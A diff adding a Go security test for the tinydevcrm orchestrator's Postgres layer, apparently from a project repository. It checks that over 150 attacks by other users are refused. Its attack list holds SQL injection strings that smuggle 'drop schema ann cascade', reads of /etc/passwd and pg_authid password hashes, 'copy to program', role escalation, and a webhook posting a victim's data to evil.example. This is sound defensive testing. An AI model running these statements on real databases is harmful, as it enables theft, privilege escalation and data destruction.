@@ -1,0 +1,288 @@
+package main
+
+import (
+	"database/sql"
+	"errors"
+	"fmt"
+	"strings"
+	"testing"
+
+	"github.com/lib/pq"
+
+	"github.com/yingw787/tinydevcrm-mvp/orchestrator/internal/db"
+	"github.com/yingw787/tinydevcrm-mvp/orchestrator/internal/dbtest"
+)
+
+// An attack is a statement on something of ann's. She can run it herself, which shows that it is one: it
+// changes or gives something then. Others get an error, or nothing, and change nothing.
+type attack struct{ name, statement string }
+
+// attackedTables each hold something of ann's, which is read, changed, deleted and forged.
+var attackedTables = []struct{ table, change, forged string }{
+	{"imports", "row_count = 0", ""},
+	{"import_problems", "line = 0", ""},
+	{"matviews where id = {matview_id}", "notify_when = 'never'", "(owner, relation) values ('ann', 'ann.unwatched')"},
+	{"matview_baselines", "row_count = 99", "(matview_id, row_hash, row_count) select max(matview_id), 'x', 1 from public.facts"},
+	{"schedules", "schedule = 'never'", "(owner, schedule, cron_schedule) values ('ann', '3 minutes', '*/3 * * * *')"},
+	{"matview_refresh_events", "row_count = 0",
+		"(owner, matview_id, matview, outcome, is_told, row_count, started_at, duration) select 'ann', matview_id, 'ann.v', 'refreshed', true, 9, now(), '0 s' from public.facts"},
+	{"subscriptions", "max_attempts = 1", "(owner, name) values ('ann', 'forged')"},
+	{"deliveries", "attempts = 0", "(owner, subscription_id, event_id) select 'ann', hook_id, first_event_id from public.facts"},
+	{"webhooks", "url = 'https://evil.example/'", ""},
+}
+
+// attacks are all but those on tables. {…} is a column of facts.
+var attacks = []attack{
+	{"refresh", "select from tinydevcrm.refresh_matview('ann.v')"},
+	{"refresh from inside", "select from tinydevcrm.matviews, tinydevcrm._refresh_matview(matviews) where matviews.id = {matview_id}"},
+	{"schedule", "select tinydevcrm.schedule_matview('ann.v', '1 minute')"},
+	{"unschedule", "select tinydevcrm.unschedule_matview('ann.v')"},
+	{"pause", "select tinydevcrm.pause_matview('ann.v')"},
+	{"resume", "select tinydevcrm.resume_matview('ann.v')"},
+	{"change the rule", "select tinydevcrm.watch_matview('ann.v', 'never')"},
+	{"watch", "select tinydevcrm.watch_matview('ann.unwatched')"},
+	{"drop by our function", "select tinydevcrm.drop_matview('ann.v')"},
+	{"drop", "drop materialized view ann.v"},
+	{"drop the schema", "drop schema ann cascade"},
+	{"refresh by hand", "refresh materialized view ann.v"},
+	{"read the view", "select from ann.v"},
+	{"read the table", "select from ann.t"},
+	{"change the table", "update ann.t set n = 0"},
+	{"make a view of it", "select tinydevcrm.create_matview('stolen', 'select * from ann.t')"},
+	{"make a view in the schema", "select tinydevcrm.create_matview('planted', 'select 1 as n', schema_name => 'ann')"},
+	{"subscribe to the view", "select tinydevcrm.create_subscription('spy', 'ann.v')"},
+	{"post the view elsewhere", "select tinydevcrm.create_webhook('spy', 'https://evil.example/', 'ann.v')"},
+	{"receive", "select from tinydevcrm.receive_events('mine')"},
+	{"receive by number", "select from tinydevcrm._receive_deliveries({subscription_id}, 10, '1 hour')"},
+	{"acknowledge", "select from tinydevcrm.acknowledge_events(array[{delivery_id}]) as count where count > 0"},
+	{"reject", "select tinydevcrm.reject_event({delivery_id})"},
+	{"redeliver", "select tinydevcrm.redeliver_event({delivery_id})"},
+	{"redeliver from inside", "select from tinydevcrm._make_pending(array[{delivery_id}]) as count where count > 0"},
+	{"redeliver what is parked", "select tinydevcrm.redeliver_parked('mine')"},
+	{"replay", "select tinydevcrm.replay_events('mine', '-infinity')"},
+	{"pause the subscription", "select tinydevcrm.pause_subscription('mine')"},
+	{"resume the subscription", "select tinydevcrm.resume_subscription('mine')"},
+	{"drop the subscription", "select tinydevcrm.drop_subscription('mine')"},
+	{"rotate the secret", "select tinydevcrm.rotate_webhook_secret('hook')"},
+	{"look for webhooks", "select from tinydevcrm._due_webhooks()"},
+	{"switch the webhook off", "with gone as (select tinydevcrm._switch_off_webhook({hook_id}, 'gone')) select from gone, tinydevcrm.subscriptions where id = {hook_id}"},
+	{"replace the table", "select tinydevcrm.begin_import('x.csv', '{n}', '{5}', mode => 'replace', table_name => 't', schema_name => 'ann')"},
+	{"append to the table", "select tinydevcrm.begin_import('x.csv', '{n}', '{5}', mode => 'append', table_name => 't', schema_name => 'ann')"},
+	{"import into the schema", "select tinydevcrm.begin_import('x.csv', '{n}', '{5}', table_name => 'planted', schema_name => 'ann')"},
+	{"see the status", "select from tinydevcrm.matview_status where relation = 'ann.v'::regclass"},
+	{"see the subscription", "select from tinydevcrm.subscription_status where subscription = 'mine'"},
+	{"see the event as JSON", "select from tinydevcrm.matview_refresh_events as events, tinydevcrm.event_json(events) where id = {first_event_id}"},
+	{"see the job", "select from cron.job where jobid = {job_id}"},
+	{"unschedule the job", "select cron.unschedule({job_id})"},
+}
+
+// outOfBounds are attacks on what is nobody's but the server's: no user may do them.
+var outOfBounds = []attack{
+	{"make a user", "select tinydevcrm.create_user('mallory', 'secret word')"},
+	{"drop a user", "select tinydevcrm.drop_user('ann')"},
+	{"change settings", "update tinydevcrm.settings set event_limit = 1"},
+	{"run retention", "call tinydevcrm.remove_expired()"},
+	{"run upkeep", "call tinydevcrm.settle_jobs()"},
+	{"take the owner's name", "select tinydevcrm._settle_owners()"},
+	{"several statements in a query", "select tinydevcrm.create_matview('x', 'select 1 as n; drop schema ann cascade')"},
+	{"a statement that ends the other", "select tinydevcrm.create_matview('x', 'select 1 as n with no data; drop schema ann cascade; select 1')"},
+	{"a query that writes", "select tinydevcrm.create_matview('x', 'with gone as (delete from own returning n) select n from gone')"},
+	{"a query that takes a role", "select tinydevcrm.create_matview('x', $$select set_config('role', 'postgres', false) as n$$)"},
+	{"a query that takes a session", "select tinydevcrm.create_matview('x', $$select set_config('session_authorization', 'postgres', false) as n$$)"},
+	{"a query that reads a file", "select tinydevcrm.create_matview('x', $$select pg_read_file('postgresql.conf') as n$$)"},
+	{"a query that lists files", "select tinydevcrm.create_matview('x', $$select pg_ls_dir('.') as n$$)"},
+	{"a query that imports a file", "select tinydevcrm.create_matview('x', $$select lo_import('/etc/passwd') as n$$)"},
+	{"a query that reads passwords", "select tinydevcrm.create_matview('x', 'select rolpassword from pg_authid')"},
+	{"a query that ends sessions", "select tinydevcrm.create_matview('x', 'select pg_terminate_backend(pid) as n from pg_stat_activity where usename = ''postgres''')"},
+	{"a query that reads ann's", "select tinydevcrm.create_matview('x', 'select * from ann.t')"},
+	{"a name that ends the statement", `select tinydevcrm.create_matview('x" as select 1; drop schema ann cascade; --', 'select * from ann.t')`},
+	{"a schema that ends the statement", `select tinydevcrm.create_matview('x', 'select 1 as n', schema_name => 'ann"; drop schema ann cascade; --')`},
+	{"a key that ends the statement", `select tinydevcrm.create_matview('x', 'select 1 as n', key => array['n); drop schema ann cascade; --'])`},
+	{"a schedule that ends the statement", `select tinydevcrm.schedule_matview('own_view', '* * * * *''); drop schema ann cascade; --')`},
+	{"a type that ends the statement", `select tinydevcrm.begin_import('x.csv', '{n}', '{5}', types => '{"n": "text); drop schema ann cascade; --"}')`},
+	{"a program through copy", "copy own to program 'true'"},
+	{"a file through copy", "copy own from '/etc/passwd'"},
+	{"a function in Python", "create function run() returns void language plpython3u as $$ pass $$"},
+	{"a role", "set role postgres"},
+	{"the orchestrator's role", "set role tinydevcrm_orchestrator"},
+	{"the administrator's role", "grant tinydevcrm_admin to current_user"},
+	{"our schema", "create table tinydevcrm.mine (n integer)"},
+	{"our functions", "create or replace function tinydevcrm._check_schema(schema_name name) returns void language sql as ''"},
+	{"our triggers", "alter table tinydevcrm.matviews disable trigger all"},
+	{"our policies", "alter table tinydevcrm.matviews disable row level security"},
+	{"a job of another's", "insert into cron.job (schedule, command, nodename, nodeport, database, username) values ('* * * * *', 'select 1', 'localhost', 5432, current_database(), 'postgres')"},
+	{"another's name on a job", "update cron.job set username = 'postgres'"},
+}
+
+func TestNobodyGetsWhereTheyDoNotBelong(t *testing.T) {
+	server := dbtest.NewServer(t)
+	mustCommand(t, server.URL, "migrate", "up")
+	super := open(t, server.URL, "postgres")
+	prepareVictim(t, server.URL, super)
+
+	all := attacks
+	for _, attacked := range attackedTables {
+		name, where, _ := strings.Cut(attacked.table, " ")
+		all = append(all,
+			attack{"read " + name, "select from tinydevcrm." + attacked.table},
+			attack{"change " + name, "update tinydevcrm." + name + " set " + attacked.change + " " + where},
+			attack{"delete from " + name, "delete from tinydevcrm." + attacked.table})
+		if attacked.forged != "" {
+			all = append(all, attack{"forge " + name, "insert into tinydevcrm." + name + " " + attacked.forged})
+		}
+	}
+	attempts := 0
+	for _, role := range []string{"eve", "outsider"} {
+		attacker := open(t, server.URL, role)
+		if role == "eve" {
+			dbtest.Exec(t, attacker, "create table own (n integer)")
+			dbtest.Exec(t, attacker, "select tinydevcrm.create_matview('own_view', 'select n from own')")
+		}
+		for _, attack := range all {
+			attempts++
+			t.Run(role+"/"+attack.name, func(t *testing.T) { attempt(t, super, attacker, attack, "ann") })
+		}
+		for _, attack := range outOfBounds {
+			attempts++
+			t.Run(role+"/"+attack.name, func(t *testing.T) { attempt(t, super, attacker, attack, "") })
+		}
+	}
+	if attempts < 150 {
+		t.Errorf("%d attacks, want 150 at least", attempts)
+	}
+}
+
+// attempt runs an attack in a transaction, first as its victim to see that there is something in it.
+func attempt(t *testing.T, super, attacker *sql.DB, attack attack, victim string) {
+	statement := attack.statement
+	rows, err := super.Query("select key, value from public.facts, jsonb_each_text(to_jsonb(facts))")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer rows.Close()
+	for rows.Next() {
+		var key, value string
+		if err := rows.Scan(&key, &value); err != nil {
+			t.Fatal(err)
+		}
+		statement = strings.ReplaceAll(statement, "{"+key+"}", value)
+	}
+	if victim != "" {
+		if count, err := inVain(super, "set local role "+victim, statement); err != nil && !isDenied(err) || err == nil && count == 0 && hasCount(statement) {
+			t.Fatalf("the attack is none: %s gets %d rows, %v", victim, count, err)
+		}
+	}
+
+	before := fingerprint(t, super)
+	tx, err := attacker.Begin()
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer tx.Rollback()
+	result, err := tx.Exec(statement)
+	if err != nil {
+		var refused *pq.Error
+		if !errors.As(err, &refused) {
+			t.Fatalf("not attempted: %v", err)
+		}
+		if class := refused.Code.Class(); class == "XX" || refused.Code == "42601" && victim != "" {
+			t.Errorf("refused for another reason: %v", err)
+		}
+		return
+	}
+	if count, _ := result.RowsAffected(); count > 0 {
+		t.Errorf("it succeeds: %d rows", count)
+	}
+	if err := tx.Commit(); err != nil {
+		t.Fatal(err)
+	}
+	if after := fingerprint(t, super); after != before {
+		t.Errorf("it changes what is ann's:\n%s\n%s", before, after)
+	}
+}
+
+// hasCount says that Postgres counts the rows of a statement.
+func hasCount(statement string) bool {
+	verb, _, _ := strings.Cut(statement, " ")
+	return verb != "drop" && verb != "refresh"
+}
+
+// inVain runs a statement and takes it back.
+func inVain(pool *sql.DB, statements ...string) (int64, error) {
+	tx, err := pool.Begin()
+	if err != nil {
+		return 0, err
+	}
+	defer tx.Rollback()
+	var count int64
+	for _, statement := range statements {
+		result, err := tx.Exec(statement)
+		if err != nil {
+			return 0, err
+		}
+		count, _ = result.RowsAffected()
+	}
+	return count, nil
+}
+
+// isDenied says that not even an owner may do this to our own tables.
+func isDenied(err error) bool {
+	var refused *pq.Error
+	return errors.As(err, &refused) && (refused.Code == "42501" || refused.Code.Class() == "23")
+}
+
+// fingerprint is all that is ann's.
+func fingerprint(t *testing.T, super *sql.DB) string {
+	t.Helper()
+	var parts []string
+	for _, attacked := range attackedTables {
+		name, _, _ := strings.Cut(attacked.table, " ")
+		parts = append(parts, fmt.Sprintf("(select coalesce(string_agg(x::text, '|' order by x::text), '') from tinydevcrm.%s as x)", name))
+	}
+	return dbtest.Value[string](t, super, "select md5(concat_ws('#', "+strings.Join(parts, ", ")+
+		", (select string_agg(t::text, '|') from ann.t as t), (select string_agg(job::text, '|' order by jobid) from cron.job as job)"+
+		", (select string_agg(oid::text, '|' order by oid) from pg_class where relnamespace = 'ann'::regnamespace)))")
+}
+
+func open(t *testing.T, databaseURL, role string) *sql.DB {
+	t.Helper()
+	pool, err := db.Open(t.Context(), strings.Replace(databaseURL, "user=postgres", "user="+role, 1), 2)
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { pool.Close() })
+	return pool
+}
+
+// prepareVictim makes the users, and gives ann one of each thing, the numbers of which are in facts.
+func prepareVictim(t *testing.T, databaseURL string, super *sql.DB) {
+	t.Helper()
+	dbtest.Exec(t, super, "select tinydevcrm.create_user(name, 'secret word') from unnest(array['ann', 'eve']) as name")
+	dbtest.Exec(t, super, "create role outsider login")
+	ann := open(t, databaseURL, "ann")
+	for _, statement := range []string{
+		"create table t as select 1 as n",
+		"create table staging as select 'x'::text as c",
+		"select tinydevcrm.import_staging('staging', 'imported')",
+		"select tinydevcrm.create_matview('v', 'select * from t', 'rows_added')",
+		"create materialized view unwatched as select 1 as n",
+		// Not before the new year, so that nothing changes by itself.
+		"select tinydevcrm.schedule_matview('v', '0 0 1 1 *')",
+		"select tinydevcrm.create_subscription('mine')",
+		"select tinydevcrm.create_webhook('hook', 'https://example.com/')",
+		"insert into t values (2)",
+		"select tinydevcrm.refresh_matview('v')",
+	} {
+		dbtest.Exec(t, ann, statement)
+	}
+	dbtest.Exec(t, super, "insert into tinydevcrm.import_problems (import_id, line, reason, line_text) select id, 1, 'made up', '' from tinydevcrm.imports")
+	dbtest.Exec(t, super, `
+		create table public.facts as
+		select (select id from tinydevcrm.matviews) as matview_id,
+		       (select job_id from tinydevcrm.schedules) as job_id,
+		       (select id from tinydevcrm.subscriptions where name = 'mine') as subscription_id,
+		       (select id from tinydevcrm.subscriptions where name = 'hook') as hook_id,
+		       (select min(id) from tinydevcrm.matview_refresh_events) as first_event_id,
+		       (select min(id) from tinydevcrm.deliveries) as delivery_id`)
+	dbtest.Exec(t, super, "grant select on public.facts to public")
+}
